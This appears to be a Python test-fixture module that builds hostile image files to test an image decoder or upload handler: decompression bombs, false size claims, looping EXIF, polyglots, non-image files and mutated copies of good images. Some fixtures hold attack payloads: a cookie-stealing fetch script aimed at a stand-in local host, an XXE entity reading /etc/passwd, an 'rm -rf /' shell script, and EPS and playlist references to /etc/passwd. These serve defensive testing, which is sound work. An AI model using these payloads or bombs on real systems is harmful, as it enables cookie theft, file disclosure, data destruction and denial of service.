"""Bad images: bombs, lies, polyglots, wrong kinds, and good ones of every format that were damaged."""

import io
import struct
import zlib
from collections.abc import Callable, Iterator
from functools import cache, partial
from random import Random

from PIL import Image, ImageCms, ImageDraw, PngImagePlugin

from tests.media.heif import make_heic
from tests.media.hostile import Bad, mutated

_PNG = b"\x89PNG\r\n\x1a\n"
_PAGE = b"<!doctype html><script>fetch('http://127.0.0.1/'+document.cookie)</script>"
_XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>'


def bad_images(count: int = 2000) -> list[Bad]:
    """List `count` bad images: every made one first, then damaged ones of every format in turn."""
    made = list(_made())
    formats = list(_GOOD)
    names = [formats[number % len(formats)] for number in range(count - len(made))]
    return [
        *made,
        *(Bad(f"damaged {name} {number}", partial(_damaged, name, number)) for number, name in enumerate(names)),
    ]


def _made() -> Iterator[Bad]:
    for width, height in [
        (12_001, 20),
        (20, 12_001),
        (60_000, 60_000),
        (7_000, 7_200),
        (12_000, 12_000),
        (1, 1),
        (15, 400),
    ]:
        yield Bad(f"png of {width} x {height}", partial(_png, width, height, _rows(width, min(height, 8000))))
    for width, height in [(2**31 - 1, 2**31 - 1), (0, 0), (1, 2**31 - 1), (0xFFFFFFFF, 1), (6_000, 6_000)]:
        yield Bad(f"png that claims {width} x {height}", partial(_png, width, height, b"\0" * 64))
    for depth, colour in [(1, 3), (16, 6), (16, 2), (3, 0), (8, 7), (32, 2)]:
        yield Bad(f"png of depth {depth} and colour {colour}", partial(_png, 5_000, 5_000, b"\0" * 64, depth, colour))
    for kind in (b"zTXt", b"iTXt", b"iCCP", b"eXIf", b"tEXt"):
        yield Bad(f"png with a bomb in {kind.decode()}", partial(_text_bomb, kind))
    yield Bad("png with 100,000 chunks", lambda: _with_chunks(*[(b"tEXt", b"k\0v")] * 100_000))
    yield Bad("png with a chunk of 2 GB", lambda: _PNG + struct.pack(">I", 2**31 - 1) + b"IHDR" + bytes(500))
    yield Bad("png whose pixels unpack to 300 MB", partial(_png, 64, 64, bytes(300_000_000)))
    yield Bad("png of 4,000 frames", _many_frames)
    yield Bad("png that promises 2**31 frames", lambda: _with_chunks((b"acTL", struct.pack(">II", 2**31 - 1, 0))))
    for side in (65_535, 30_000, 12_001, 0):
        yield Bad(f"jpeg that claims sides of {side}", partial(_jpeg_of, side))
    yield Bad("jpeg of 3,000 scans", _many_scans)
    yield Bad(
        "jpeg with 20,000 segments", lambda: b"\xff\xd8" + b"\xff\xe1\x00\x08Exif\0\0" * 20_000 + _good("jpeg")[2:]
    )
    yield Bad("jpeg with segments that overlap", lambda: b"\xff\xd8\xff\xe1\xff\xff" + _good("jpeg")[2:])
    yield Bad("jpeg whose EXIF points at itself", _exif_in_a_circle)
    yield Bad("jpeg with the EXIF of another world", lambda: _with_exif(b"Exif\0\0" + Random(1).randbytes(60_000)))
    yield Bad("jpeg with a profile of noise", lambda: _saved("JPEG", icc_profile=Random(2).randbytes(50_000)))
    yield Bad("webp of 16,384 x 16,384", lambda: _webp_claims(16_383, 16_383))
    yield Bad("webp of 2,000 frames", _animated_webp)
    yield Bad("avif of 60 frames", _animated_avif)
    for name in ("avif", "heic"):
        for side in (0, 1, 60_000, 2**31 - 1, 2**32 - 1):
            yield Bad(f"{name} that claims {side}", partial(_ispe_claims, name, side))
        yield Bad(f"{name} of boxes in boxes", partial(_deep_boxes, name))
        yield Bad(f"{name} with a million items", partial(_many_items, name))
    yield from _polyglots()
    yield from _other_kinds()


def _polyglots() -> Iterator[Bad]:
    tails = {
        "html": _PAGE,
        "zip": b"PK\3\4" + bytes(60) + b"PK\5\6" + bytes(18),
        "pdf": b"%PDF-1.7\n1 0 obj\n",
        "php": b"<?php x",
    }
    for name in _GOOD:
        for tail, content in tails.items():
            yield Bad(f"{tail} in front of {name}", lambda c=content, n=name: c + _good(n))
            yield Bad(f"{name} cut, then {tail}", lambda c=content, n=name: _good(n)[: len(_good(n)) // 2] + c * 20)
    for first, second in [("jpeg", "png"), ("png", "webp"), ("heic", "jpeg"), ("avif", "heic"), ("webp", "jpeg")]:
        yield Bad(
            f"half of {first}, then {second}", lambda a=first, b=second: _good(a)[: len(_good(a)) // 2] + _good(b)
        )
    yield Bad("jpeg with a page as its comment, cut", lambda: _saved("JPEG", comment=_PAGE)[:400])


def _other_kinds() -> Iterator[Bad]:
    others = {
        "nothing": b"",
        "one byte": b"\xff",
        "zeros": bytes(5000),
        "words": b"Dear assessor, here is my photo.",
        "svg": _XXE,
        "html": _PAGE,
        "zip": b"PK\3\4" + bytes(500),
        "elf": b"\x7fELF" + bytes(500),
        "script": b"#!/bin/sh\nrm -rf /\n",
        "mpo": b"\xff\xd8\xff\xe2\x00\x10MPF\0" + bytes(100),
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run\n",
        "psd": b"8BPS\0\1" + bytes(100),
        "playlist": b"#EXTM3U\nfile:///etc/passwd\n",
        "fits": b"SIMPLE  =                    T" + bytes(2880),
    }
    for name, content in others.items():
        yield Bad(name, lambda c=content: c)
    for format_ in ("GIF", "BMP", "TIFF", "ICO", "PPM", "TGA", "PCX", "DDS"):
        yield Bad(f"{format_.lower()} named jpg", partial(_saved, format_))
    for name, head in {
        "jpeg": b"\xff\xd8\xff\xe0",
        "png": _PNG,
        "webp": b"RIFF\xff\xff\xff\xffWEBPVP8X",
        "heic": b"\0\0\0\x18ftypheic",
    }.items():
        for size in (0, 1, 20, 5000, 500_000):
            yield Bad(f"head of {name} and {size} bytes of noise", lambda h=head, s=size: h + Random(s).randbytes(s))
            yield Bad(f"head of {name} and {size} zeros", lambda h=head, s=size: h + bytes(s))


def _damaged(name: str, number: int) -> bytes:
    content = mutated(_good(name), number)
    # A wrong sum would save the decoder from half of the work.
    return _with_right_sums(content) if name.endswith("png") and number % 3 else content


def _image(mode: str = "RGB", size: tuple[int, int] = (96, 64)) -> Image.Image:
    image = Image.new("RGB", size, "teal")
    draw = ImageDraw.Draw(image)
    for number in range(0, size[0], 7):
        draw.line([(number, 0), (size[0] - number, size[1])], fill=(number * 2 % 255, 90, 255 - number))
    return image.convert(mode)


def _saved(format_: str, mode: str = "RGB", **options: object) -> bytes:
    content = io.BytesIO()
    _image(mode).save(content, format_, **options)
    return content.getvalue()


def _exif() -> bytes:
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 6, "A phone"
    exif.get_ifd(0x8825).update({1: "N", 2: (59.0, 20.0, 50.0)})
    return exif.tobytes()


def _srgb() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


_GOOD: dict[str, Callable[[], bytes]] = {
    "jpeg": lambda: _saved("JPEG", exif=_exif(), icc_profile=_srgb()),
    "progressive jpeg": lambda: _saved("JPEG", progressive=True, comment=b"hello"),
    "cmyk jpeg": lambda: _saved("JPEG", "CMYK"),
    "grey jpeg": lambda: _saved("JPEG", "L", restart_marker_blocks=1),
    "png": lambda: _saved("PNG", "RGBA", exif=_exif(), icc_profile=_srgb()),
    "palette png": lambda: _saved("PNG", "P", transparency=3),
    "deep png": lambda: _saved("PNG", "I;16"),
    "webp": lambda: _saved("WEBP", exif=_exif()),
    "lossless webp": lambda: _saved("WEBP", "RGBA", lossless=True),
    "moving webp": lambda: _saved("WEBP", save_all=True, append_images=[_image("L").convert("RGB")] * 3),
    "moving png": lambda: _saved("PNG", save_all=True, append_images=[_image("L").convert("RGB")] * 3),
    "avif": lambda: _saved("AVIF", exif=_exif(), speed=10),
    "heic": lambda: make_heic(_image(), exif=_exif(), xmp=b"<x/>", icc=_srgb(), turns=1),
}


@cache
def _good(name: str) -> bytes:
    return _GOOD[name]()


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def _rows(width: int, height: int) -> bytes:
    return bytes((1 + (width + 7) // 8) * height)


def _png(width: int, height: int, pixels: bytes, depth: int = 1, colour: int = 0) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return _PNG + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(pixels, 9)) + _chunk(b"IEND", b"")


def _with_chunks(*chunks: tuple[bytes, bytes]) -> bytes:
    good = _saved("PNG")
    return good[:33] + b"".join(_chunk(name, content) for name, content in chunks) + good[33:]


def _text_bomb(kind: bytes) -> bytes:
    packed = zlib.compress(bytes(200_000_000), 9)
    content = {
        b"zTXt": b"Comment\0\0" + packed,
        b"iTXt": b"Comment\0\1\0\0\0" + packed,
        b"iCCP": b"icc\0\0" + packed,
        b"eXIf": b"MM\0*" + bytes(20_000_000),
        b"tEXt": b"Comment\0" + b"x" * 20_000_000,
    }
    return _with_chunks((kind, content[kind]))


def _many_frames() -> bytes:
    info = PngImagePlugin.PngInfo()
    content = io.BytesIO()
    frames = [Image.new("RGB", (32, 32), (number % 255, 0, 0)) for number in range(4000)]
    frames[0].save(content, "PNG", save_all=True, append_images=frames[1:], pnginfo=info)
    return content.getvalue()[:-200]


def _animated_webp() -> bytes:
    content = io.BytesIO()
    frames = [Image.new("RGB", (32, 32), (number % 255, 0, 0)) for number in range(2000)]
    frames[0].save(content, "WEBP", save_all=True, append_images=frames[1:])
    return content.getvalue()[:-5000]


def _animated_avif() -> bytes:
    content = io.BytesIO()
    frames = [Image.new("RGB", (32, 32), (number * 4 % 255, 0, 0)) for number in range(60)]
    frames[0].save(content, "AVIF", save_all=True, append_images=frames[1:], speed=10)
    return content.getvalue()[: -len(content.getvalue()) // 2]


def _jpeg_of(side: int) -> bytes:
    data = bytearray(_good("jpeg"))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", side, side)
    return bytes(data)


def _many_scans() -> bytes:
    content = io.BytesIO()
    Image.new("RGB", (6000, 6000), "teal").save(content, "JPEG", progressive=True)
    data = content.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * 3000 + b"\xff\xd9"


def _with_exif(exif: bytes) -> bytes:
    return b"\xff\xd8\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + _saved("JPEG")[2:]


def _exif_in_a_circle() -> bytes:
    entry = struct.pack(">HHII", 0x8769, 4, 1, 8)
    return _with_exif(b"Exif\0\0MM\0*" + struct.pack(">IH", 8, 1) + entry + struct.pack(">I", 8))


def _webp_claims(width: int, height: int) -> bytes:
    canvas = bytes([0, 0, 0, 0]) + width.to_bytes(3, "little") + height.to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + canvas + _good("webp")[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _ispe_claims(name: str, side: int) -> bytes:
    data = bytearray(_good(name))
    at = data.index(b"ispe") + 8
    data[at : at + 8] = struct.pack(">II", side, side)
    return bytes(data)


def _deep_boxes(name: str) -> bytes:
    content = b""
    for _ in range(5000):
        content = struct.pack(">I", len(content) + 12) + b"meta" + bytes(4) + content
    return _good(name)[:32] + content


def _many_items(name: str) -> bytes:
    data = bytearray(_good(name))
    at = data.index(b"iloc") + 10
    data[at : at + 2] = b"\xff\xff"
    return bytes(data) + bytes(1_000_000)


def _with_right_sums(content: bytes) -> bytes:
    """Compute every chunk's sum anew, as far as there are chunks."""
    made, at = content[:8], 8
    while at + 12 <= len(content):
        (size,) = struct.unpack_from(">I", content, at)
        name, inside = content[at + 4 : at + 8], content[at + 8 : at + 8 + size]
        if len(inside) < size:
            break
        made += _chunk(name, inside)
        at += 12 + size
    return made + content[at:]
